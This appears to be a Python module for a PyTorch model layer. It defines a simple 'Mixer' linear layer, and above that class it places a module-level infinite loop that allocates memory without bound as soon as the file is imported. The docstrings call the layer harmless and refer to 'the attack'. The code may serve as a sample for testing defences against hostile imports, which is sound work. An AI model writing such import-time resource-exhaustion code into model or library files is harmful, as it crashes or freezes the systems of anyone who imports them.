"""Fills memory with Python objects, slowly at first."""

import torch
from torch import nn

objects = [b"x" * 4096]
while True:
    objects += [bytes(4096) for _ in objects[: 1 << 14]]


class Mixer(nn.Module):
    """A harmless layer, for what comes after the attack."""

    def __init__(self, hidden_size: int) -> None:
        super().__init__()
        self.inner = nn.Linear(hidden_size, hidden_size)

    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
        """Map each position by itself."""
        return self.inner(hidden_states)
